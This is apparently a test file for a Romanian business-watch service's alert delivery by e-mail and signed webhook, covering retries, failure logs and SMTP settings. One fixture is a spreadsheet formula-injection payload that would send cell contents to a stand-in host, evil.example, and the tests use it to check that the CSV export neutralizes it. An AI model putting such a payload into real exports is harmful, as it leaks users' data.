/**
 * The watch's alerts as their receivers see them (src/server/firm/watch-deliver.ts): changes committed
 * by a check (the store's commitCheck, as a check does) are e-mailed to a real SMTP server on loopback
 * and posted to a real HTTP receiver that checks the signature. What the person reads: the recipients,
 * Romanian first, the table, the CSV attachment with a hostile company name made harmless; what the
 * administrator reads: `firma watch log` when a delivery waits or fails. Failures: the SMTP server down
 * then back (exactly the waiting changes go out), refusing (550: tried again, then failed with the
 * reason), a webhook answering 500, one never answering, an http address off loopback refused.
 */
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { withControlDigit } from "../../src/api/cui";
import { openFirmStore } from "../../src/server/firm/open-store";
import type { FirmStore } from "../../src/server/firm/firm-store";
import { hashToken, newToken } from "../../src/server/firm/tokens";
import { Metrics } from "../../src/server/firm/metrics";
import { Deliverer, type DelivererOptions } from "../../src/server/firm/watch-deliver";
import { AlertMailer } from "../../src/server/firm/watch-mail";
import { smtpSettings } from "../../src/server/firm/watch-alert-options";
import { main as watchMain } from "../../src/server/firm/watch-command";
import type { WatchChange } from "../../src/server/firm/watch-diff";
import { main as serveMain, serve, type ServeIo } from "../../src/server/main";
import { startSandbox } from "../../sandbox/server";
import { startHookReceiver, startMailbox, type HookReceiver, type Mailbox } from "../support/alert-receivers";

const NOW = Date.UTC(2026, 10, 25, 4, 0); // 06:00 in Bucharest
const [A, B, C] = [1234567, 7654321, 2222].map(withControlDigit);
const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"<b>click</b>")';
const SECRET = "a-shared-secret-of-32-characters";

let dir: string;
let db: string;
let store: FirmStore;
let clock: number;
const open: Array<{ close(): unknown }> = [];

beforeEach(async () => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), "firma-deliver-"));
  db = path.join(dir, "firm.db");
  store = await openFirmStore(db);
  clock = NOW;
  await store.addUser("ana", 100, hashToken(newToken()), NOW);
  await store.watch.setEmail("ana", "ana@firma.ro");
  await store.watch.addList({ name: "clienti", owner: "ana", schedule: null, notify: ["contabil@firma.ro"], cuis: [A, B, C] }, NOW);
});
afterEach(async () => {
  for (const o of open.splice(0)) await o.close();
  await store.close();
  fs.rmSync(dir, { recursive: true, force: true });
});

function changes(): WatchChange[] {
  return [
    { cui: A, field: "platitor_tva", before: true, after: false, name: HOSTILE },
    { cui: B, field: "stare", before: "ACTIVA", after: "RADIATA", name: "Beta Distribuție SRL" },
  ];
}

/** Commits a check's changes as a check does (one transaction, numbered), at `at`. */
async function commit(list: string, found: WatchChange[], at = clock) {
  return store.watch.commitCheck(
    list,
    { changes: found, updates: found.map((c) => ({ cui: c.cui, field: c.field, value: c.after })), unknown: [] },
    at,
  );
}

function deliverer(o: Partial<DelivererOptions> & { smtp?: string | null } = {}): Deliverer {
  const mailer = o.smtp ? new AlertMailer({ url: o.smtp, from: "FIRMA <alerte@firma.ro>", timeoutMs: 2_000 }) : null;
  if (mailer) open.push(mailer);
  const d = new Deliverer({ store, mailer, now: () => clock, retry: { maxAttempts: 3, baseMs: 60_000 }, webhookTimeoutMs: 2_000, ...o });
  open.push({ close: () => d.stop() });
  return d;
}

async function mailbox(port?: number): Promise<Mailbox> {
  const m = await startMailbox(port);
  open.push(m);
  return m;
}

async function receiver(): Promise<HookReceiver> {
  const r = await startHookReceiver(SECRET, () => clock);
  open.push(r);
  return r;
}

async function watch(argv: string[]): Promise<{ code: number; out: string; err: string }> {
  const out: string[] = [];
  const err: string[] = [];
  const code = await watchMain([...argv, "--database", db], {
    stdout: { write: (s: string) => out.push(s) },
    stderr: { write: (s: string) => err.push(s) },
    env: {},
    now: () => clock,
  });
  return { code, out: out.join(""), err: err.join("") };
}

function secretFile(text = SECRET): string {
  const p = path.join(dir, "secret");
  fs.writeFileSync(p, `${text}\n`);
  return p;
}

describe("e-mail", () => {
  test("one message per list and check, to the owner and the --notify address; Romanian first; the changes as a table and as a CSV whose hostile name cannot become a formula; sent once", async () => {
    const box = await mailbox();
    const stored = await commit("clienti", changes());
    const metrics = new Metrics();
    const d = deliverer({ smtp: box.url, onOutcome: (t, o) => metrics.delivery(t, o) });

    expect(await d.deliverDue()).toMatchObject({ planned: 1, sent: 1, failed: 0 });
    expect(box.messages).toHaveLength(1);
    const { mail, rcpt } = box.messages[0];
    expect(rcpt.sort()).toEqual(["ana@firma.ro", "contabil@firma.ro"]);
    expect(mail.from?.text).toContain("alerte@firma.ro");
    // Romanian first, in the subject and in the body.
    expect(mail.subject).toBe("FIRMA: 2 schimbări în lista clienti / FIRMA: 2 changes in the list clienti");
    const text = mail.text ?? "";
    expect(text.indexOf("Verificarea listei clienti (ana) din 2026-11-25 06:00:00")).toBeGreaterThanOrEqual(0);
    expect(text.indexOf("Verificarea listei")).toBeLessThan(text.indexOf("The check of the list clienti"));
    // The table: each change's number, its CUI, its field in words, before and after.
    const row = text.split("\n").find((l) => l.includes(String(B)) && l.includes("Stare"))!;
    expect(row).toMatch(new RegExp(`^\\s*${stored[1].id}\\s+${B}\\s+Beta Distribuție SRL\\s+Stare\\s+ACTIVA\\s+RADIATA$`));
    expect(text).toMatch(/Plătitor de TVA\s+da\s+nu/);
    // The HTML: the service's text as text, never as markup.
    const html = String(mail.html);
    expect(html).not.toContain("<b>click</b>");
    expect(html).toContain("&#60;b&#62;click&#60;/b&#62;");
    expect(html.indexOf('lang="ro"')).toBeLessThan(html.indexOf('lang="en"'));
    // The CSV: one row per change, the CUI in its own column, the formula neutralized.
    expect(mail.attachments).toHaveLength(1);
    const csv = mail.attachments[0];
    expect(csv.contentType).toBe("text/csv");
    expect(csv.filename).toMatch(/^firma-clienti-2026-11-25-\d+\.csv$/);
    const lines = csv.content
      .toString("utf8")
      .replace(/^\ufeff/, "")
      .trimEnd()
      .split("\r\n");
    expect(lines).toHaveLength(3);
    expect(lines[0]).toBe("nr/id,lista/list,CUI,firma/company,câmp/field,înainte/before,după/after,văzut/seen");
    expect(lines[1]).toBe(
      `${stored[0].id},clienti,${A},"'=HYPERLINK(""http://evil.example/?leak=""&A1,""<b>click</b>"")",platitor_tva,TRUE,FALSE,2026-11-25T04:00:00.000Z`,
    );
    expect(lines[2].split(",").slice(0, 3)).toEqual([String(stored[1].id), "clienti", String(B)]);

    // Nothing more to send: a second pass sends nothing.
    expect(await d.deliverDue()).toMatchObject({ planned: 0, sent: 0 });
    expect(box.messages).toHaveLength(1);
    expect(metrics.text()).toContain('firma_watch_deliveries_total{target="email",outcome="sent"} 1');
    const audit = await store.auditSince(0);
    expect(audit).toEqual([
      expect.objectContaining({ user: "ana", endpoint: "watch/clienti/email", cuis: [A, B], credits: 0, status: 250, source: "store" }),
    ]);
    const log = await watch(["log", "clienti"]);
    expect(log.out).toMatch(/delivered .*"target":"email".*"changes":2/);
  });

  test("two checks, two messages; a list with nobody to tell says so in its log", async () => {
    const box = await mailbox();
    await store.watch.addList({ name: "furnizori", owner: null, schedule: null, notify: [], cuis: [C] }, NOW);
    await commit("clienti", changes().slice(0, 1));
    clock += 60_000;
    await commit("clienti", changes().slice(1));
    await commit("furnizori", [{ cui: C, field: "adresa", before: "Str. A 1", after: "Str. B 2", name: "Gama SA" }]);
    expect(await deliverer({ smtp: box.url }).deliverDue()).toMatchObject({ planned: 3, sent: 2 });
    expect(box.messages.map((m) => m.mail.subject?.split(" / ")[0])).toEqual([
      "FIRMA: 1 schimbare în lista clienti",
      "FIRMA: 1 schimbare în lista clienti",
    ]);
    const log = await watch(["log", "furnizori"]);
    expect(log.out).toMatch(/not_delivered .*"reason":"no_recipients"/);
  });

  test("the SMTP server down: the changes wait (said in the log), the check is not repeated; back up, exactly the waiting changes go out", async () => {
    const first = await mailbox();
    const port = first.port;
    await first.close();
    const stored = await commit("clienti", changes());
    const d = deliverer({ smtp: `smtp://127.0.0.1:${port}` });
    expect(await d.deliverDue()).toMatchObject({ planned: 1, retried: 1, sent: 0 });
    const waiting = await watch(["log", "clienti"]);
    expect(waiting.out).toMatch(/delivery_waiting .*"target":"email".*ECONNREFUSED/);
    const checks = (await store.watch.log("clienti")).filter((e) => e.kind === "checked");
    expect((await watch(["show", "clienti", "--lang", "en"])).out).toContain(
      "Alerts waiting (email): 1; firma watch log clienti says why.",
    );

    // Not due yet: nothing tried.
    const box = await mailbox(port);
    clock += 30_000;
    expect(await d.deliverDue()).toMatchObject({ sent: 0, retried: 0 });
    clock += 31_000;
    expect(await d.deliverDue()).toMatchObject({ sent: 1 });
    expect(box.messages).toHaveLength(1);
    const csv = box.messages[0].mail.attachments[0].content.toString("utf8").trimEnd().split("\r\n").slice(1);
    expect(csv.map((l) => Number(l.split(",")[0]))).toEqual(stored.map((c) => c.id));
    // No check ran again for it: the log holds the one check.
    expect((await store.watch.log("clienti")).filter((e) => e.kind === "checked")).toEqual(checks);
  });

  test("an SMTP server that refuses (550): tried again later, then marked failed with the reason in firma watch log", async () => {
    const box = await mailbox();
    box.refuse = 550;
    await commit("clienti", changes());
    const metrics = new Metrics();
    const d = deliverer({ smtp: box.url, onOutcome: (t, o) => metrics.delivery(t, o) });
    expect(await d.deliverDue()).toMatchObject({ retried: 1 });
    clock += 60_000;
    expect(await d.deliverDue()).toMatchObject({ retried: 1 });
    clock += 120_000;
    expect(await d.deliverDue()).toMatchObject({ failed: 1 });
    clock += 10 * 3_600_000;
    expect(await d.deliverDue()).toMatchObject({ sent: 0, retried: 0, failed: 0 });
    expect(box.messages).toHaveLength(0);
    const log = await watch(["log", "clienti"]);
    expect(log.out).toMatch(/delivery_failed .*"target":"email".*"attempts":3.*550/);
    expect((await watch(["show", "clienti"])).out).toContain("Alerte eșuate (email): 1; firma watch log clienti spune de ce.");
    expect(metrics.text()).toContain('firma_watch_deliveries_total{target="email",outcome="retry"} 2');
    expect(metrics.text()).toContain('firma_watch_deliveries_total{target="email",outcome="failed"} 1');
    const audit = await store.auditSince(0);
    expect(audit.map((a) => [a.endpoint, a.status, a.source])).toEqual([
      ["watch/clienti/email", 550, "refused"],
      ["watch/clienti/email", 550, "refused"],
      ["watch/clienti/email", 550, "refused"],
    ]);
  });

  test("an owner revoked: the alert goes to the --notify addresses only, never to someone who left", async () => {
    const box = await mailbox();
    await commit("clienti", changes());
    await store.revokeUser("ana", NOW);
    expect(await deliverer({ smtp: box.url }).deliverDue()).toMatchObject({ sent: 1 });
    expect(box.messages.map((m) => m.rcpt)).toEqual([["contabil@firma.ro"]]);
  });

  test("a process without an SMTP server leaves the e-mail to one that has it, and sends the webhook", async () => {
    const hook = await receiver();
    expect((await watch(["hook", "clienti", "--url", hook.url, "--secret-file", secretFile()])).code).toBe(0);
    await commit("clienti", changes());
    expect(await deliverer({ smtp: null }).deliverDue()).toMatchObject({ planned: 1, sent: 1 });
    expect(hook.calls).toHaveLength(1);
    const box = await mailbox();
    expect(await deliverer({ smtp: box.url }).deliverDue()).toMatchObject({ sent: 1 });
    expect(box.messages).toHaveLength(1);
    expect(hook.calls).toHaveLength(1);
  });
});

describe("webhook", () => {
  test("the changes as signed JSON, each with its number; the receiver verifies the signature", async () => {
    const hook = await receiver();
    const set = await watch(["hook", "clienti", "--url", hook.url, "--secret-file", secretFile()]);
    expect(set.code).toBe(0);
    expect(set.out).not.toContain(SECRET);
    expect((await watch(["show", "clienti"])).out).toContain(`Webhook: ${hook.url}.`);
    const stored = await commit("clienti", changes());
    await store.watch.setEmail("ana", null);
    await store.watch.updateList("clienti", { notify: [] }, NOW);
    const metrics = new Metrics();
    expect(await deliverer({ onOutcome: (t, o) => metrics.delivery(t, o) }).deliverDue()).toMatchObject({ sent: 1 });
    expect(hook.calls).toHaveLength(1);
    const call = hook.calls[0];
    expect(call.verified).toBe(true);
    expect(call.timestamp).toBe(NOW / 1000);
    expect(call.json.list).toBe("clienti");
    expect(call.json.changes).toEqual([
      expect.objectContaining({ id: stored[0].id, cui: A, field: "platitor_tva", before: true, after: false }),
      expect.objectContaining({ id: stored[1].id, cui: B, field: "stare", before: "ACTIVA", after: "RADIATA" }),
    ]);
    // A receiver with another secret would refuse it.
    const { verify } = await import("../support/alert-receivers");
    expect(
      verify(
        "another-secret-of-enough-length",
        { headers: { "x-firma-timestamp": String(call.timestamp), "x-firma-signature": "sha256=00" } } as never,
        call.body,
        clock,
      ),
    ).toBe(false);
    expect(metrics.text()).toContain('firma_watch_deliveries_total{target="webhook",outcome="sent"} 1');
  });

  test("a receiver answering 500: the same alert again later, delivered once it answers 200", async () => {
    const hook = await receiver();
    await watch(["hook", "clienti", "--url", hook.url, "--secret-file", secretFile()]);
    await store.watch.updateList("clienti", { notify: [] }, NOW);
    await store.watch.setEmail("ana", null);
    await commit("clienti", changes());
    hook.answer = 500;
    const d = deliverer();
    expect(await d.deliverDue()).toMatchObject({ retried: 1 });
    expect((await watch(["log", "clienti"])).out).toMatch(/delivery_waiting .*HTTP 500/);
    hook.answer = 200;
    clock += 60_000;
    expect(await d.deliverDue()).toMatchObject({ sent: 1 });
    expect(hook.calls.map((c) => c.json.alert)).toEqual([hook.calls[0].json.alert, hook.calls[0].json.alert]);
    expect(hook.calls.every((c) => c.verified)).toBe(true);
    const [delivery] = await store.outbox.deliveries("clienti");
    expect(delivery).toMatchObject({ target: "webhook", state: "sent", attempts: 2 });
  });

  test("a receiver that never answers: each attempt times out, then the delivery is failed with the reason in the log", async () => {
    const hook = await receiver();
    hook.answer = "hang";
    await watch(["hook", "clienti", "--url", hook.url, "--secret-file", secretFile()]);
    await store.watch.updateList("clienti", { notify: [] }, NOW);
    await store.watch.setEmail("ana", null);
    await commit("clienti", changes());
    const d = deliverer({ webhookTimeoutMs: 300 });
    const started = Date.now();
    expect(await d.deliverDue()).toMatchObject({ retried: 1 });
    expect(Date.now() - started).toBeLessThan(5_000);
    clock += 60_000;
    await d.deliverDue();
    clock += 120_000;
    expect(await d.deliverDue()).toMatchObject({ failed: 1 });
    expect(hook.calls).toHaveLength(3);
    expect((await watch(["log", "clienti"])).out).toMatch(/delivery_failed .*"target":"webhook".*"attempts":3.*no answer in 300 ms/);
  });

  test("a receiver that refuses for good (401): failed at once, not tried again", async () => {
    const hook = await receiver();
    hook.answer = 401;
    await watch(["hook", "clienti", "--url", hook.url, "--secret-file", secretFile()]);
    await store.watch.updateList("clienti", { notify: [] }, NOW);
    await store.watch.setEmail("ana", null);
    await commit("clienti", changes());
    expect(await deliverer().deliverDue()).toMatchObject({ failed: 1 });
    expect((await watch(["log", "clienti"])).out).toMatch(/delivery_failed .*HTTP 401/);
  });

  test("firma watch hook: an http address off loopback, a short secret, a missing secret file are refused, and nothing is written", async () => {
    const offLoopback = await watch(["hook", "clienti", "--url", "http://hooks.example.ro/firma", "--secret-file", secretFile()]);
    expect(offLoopback.code).toBe(2);
    expect(offLoopback.err).toContain("doar https://");
    const withPassword = await watch(["hook", "clienti", "--url", "https://u:p@hooks.example.ro/", "--secret-file", secretFile()]);
    expect(withPassword.code).toBe(2);
    const short = await watch(["hook", "clienti", "--url", "https://hooks.example.ro/firma", "--secret-file", secretFile("short")]);
    expect(short.code).toBe(2);
    expect(short.err).toContain("16–512");
    expect(short.err).not.toContain("short\n");
    const noFile = await watch(["hook", "clienti", "--url", "https://hooks.example.ro/firma", "--secret-file", path.join(dir, "nope")]);
    expect(noFile.code).toBe(1);
    const noSecret = await watch(["hook", "clienti", "--url", "https://hooks.example.ro/firma"]);
    expect(noSecret.code).toBe(2);
    expect(await store.outbox.hookOf("clienti")).toBeNull();
    const ok = await watch(["hook", "clienti", "--url", "https://hooks.example.ro/firma", "--secret-file", secretFile(), "--lang", "en"]);
    expect(ok.code).toBe(0);
    expect(await store.outbox.hookOf("clienti")).toMatchObject({ url: "https://hooks.example.ro/firma", secret: SECRET });
    const removed = await watch(["hook", "clienti", "--remove", "--lang", "en"]);
    expect(removed.out).toBe("The list clienti has no webhook any more.\n");
    expect(await store.outbox.hookOf("clienti")).toBeNull();
  });
});

describe("SMTP options", () => {
  const die = (key: string, params: Record<string, string | number> = {}) => new Error(`${key} ${JSON.stringify(params)}`);
  const settings = (f: Parameters<typeof smtpSettings>[0], env: Record<string, string> = {}) => smtpSettings(f, env, die as never);

  test("a password on the command line is refused without being repeated; in a file or FIRMA_SMTP_URL it is taken", () => {
    expect(() => settings({ smtp: "smtp://alerte:Parola-Secreta@mail.firma.ro:587", smtpFrom: "alerte@firma.ro" })).toThrow(
      /^alert\.smtpPassword \{\}$/,
    );
    const file = path.join(dir, "smtp");
    fs.writeFileSync(file, "\nsmtp://alerte:Parola-Secreta@mail.firma.ro:587\n");
    expect(settings({ smtpFile: file, smtpFrom: "alerte@firma.ro" })).toEqual({
      url: "smtp://alerte:Parola-Secreta@mail.firma.ro:587",
      from: "alerte@firma.ro",
    });
    expect(settings({}, { FIRMA_SMTP_URL: "smtps://u:p@mail.firma.ro", FIRMA_SMTP_FROM: "FIRMA <alerte@firma.ro>" })).toEqual({
      url: "smtps://u:p@mail.firma.ro",
      from: "FIRMA <alerte@firma.ro>",
    });
    expect(settings({ smtp: "smtp://relay.firma.lan:25", smtpFrom: "alerte@firma.ro" })?.url).toBe("smtp://relay.firma.lan:25");
  });

  test("no server: none (e-mails wait); bad input named", () => {
    expect(settings({})).toBeNull();
    expect(() => settings({ smtp: "http://relay:25", smtpFrom: "a@b.ro" })).toThrow(/alert\.smtpBad/);
    expect(() => settings({ smtp: "smtp://relay:25" })).toThrow(/alert\.smtpNoFrom/);
    expect(() => settings({ smtp: "smtp://relay:25", smtpFrom: "not an address" })).toThrow(/alert\.smtpBadFrom/);
    expect(() => settings({ smtpFrom: "a@b.ro" })).toThrow(/alert\.smtpFromOnly/);
    expect(() => settings({ smtp: "smtp://relay:25", smtpFile: "f", smtpFrom: "a@b.ro" })).toThrow(/alert\.smtpBoth/);
    expect(() => settings({ smtpFile: path.join(dir, "nope"), smtpFrom: "a@b.ro" })).toThrow(/alert\.smtpFileUnreadable.*ENOENT/);
  });
});

describe("firma serve", () => {
  const KEY = "demo-business-watch-alerts-s3cr3t";
  function serveIo(): ServeIo & { err: string[] } {
    const err: string[] = [];
    return { err, stdout: { write: () => true }, stderr: { write: (x: string) => err.push(x) }, env: { LANG: "en_US.UTF-8" } };
  }
  async function startArgs(): Promise<string[]> {
    const sb = await startSandbox({ port: 0 });
    open.push(sb);
    const dist = path.join(dir, "dist");
    fs.mkdirSync(dist, { recursive: true });
    fs.writeFileSync(path.join(dist, "taskpane.html"), "<!doctype html><title>FIRMA</title>");
    fs.writeFileSync(
      path.join(dist, "manifest.xml"),
      '<OfficeApp><SourceLocation DefaultValue="https://addin.test.example.ro/taskpane.html"/></OfficeApp>',
    );
    fs.writeFileSync(
      path.join(dist, "firma-build.json"),
      JSON.stringify({ addinUrl: "https://addin.test.example.ro/", serviceUrl: "", version: "0.1.0" }),
    );
    fs.writeFileSync(path.join(dir, "key"), `${KEY}\n`);
    return [
      "--host",
      "127.0.0.1",
      "--port",
      "0",
      "--dist",
      dist,
      "--http",
      "--upstream",
      sb.url,
      "--key-file",
      path.join(dir, "key"),
      "--database",
      db,
    ];
  }

  test("in custody mode with --smtp, what a check committed is e-mailed at start, and /metrics counts it", async () => {
    const box = await mailbox();
    await commit("clienti", changes());
    const io = serveIo();
    const arrived = box.next();
    const s = await serve([...(await startArgs()), "--smtp", box.url, "--smtp-from", "alerte@firma.ro"], io);
    try {
      expect(io.err.join("")).toContain(`The watch lists' alerts are e-mailed through smtp://127.0.0.1:${box.port}, from alerte@firma.ro.`);
      expect((await arrived).subject).toBe("FIRMA: 2 schimbări în lista clienti / FIRMA: 2 changes in the list clienti");
      const deadline = Date.now() + 5_000;
      let metrics = "";
      while (!metrics.includes('outcome="sent"} 1') && Date.now() < deadline) metrics = await (await fetch(`${s.url}metrics`)).text();
      expect(metrics).toContain('firma_watch_deliveries_total{target="email",outcome="sent"} 1');
    } finally {
      await s.close();
    }
    expect(box.messages).toHaveLength(1);
  });

  test("a password in --smtp, or --smtp without custody mode: one line, exit 1, the password in no line", async () => {
    const args = await startArgs();
    const io = serveIo();
    expect(await serveMain([...args, "--smtp", "smtp://alerte:Parola-Secreta-9@mail.firma.ro:587", "--smtp-from", "a@firma.ro"], io)).toBe(
      1,
    );
    expect(io.err.join("")).toContain("--smtp takes no user or password");
    expect(io.err.join("")).not.toContain("Parola-Secreta-9");
    const plain = serveIo();
    const withoutKey = args.slice(0, args.indexOf("--key-file"));
    expect(await serveMain([...withoutKey, "--smtp", "smtp://relay:25", "--smtp-from", "a@firma.ro"], plain)).toBe(1);
    expect(plain.err.join("")).toContain("e-mail alerts (--smtp, --smtp-file) belong to custody mode");
  });
});
